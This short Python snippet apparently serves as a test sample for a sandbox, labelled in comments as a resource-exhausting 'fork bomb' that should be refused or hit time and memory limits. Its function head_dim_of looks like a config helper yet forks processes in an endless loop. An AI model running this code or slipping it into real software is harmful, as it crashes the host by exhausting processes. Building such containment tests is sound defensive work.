# kind: uses up resources
# example: a fork bomb
# part: config.head_dim
# status: refused, time_limit, memory_limit
# cause: processes or threads|processor time|no answer|MiB
def head_dim_of(hf_config):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            continue
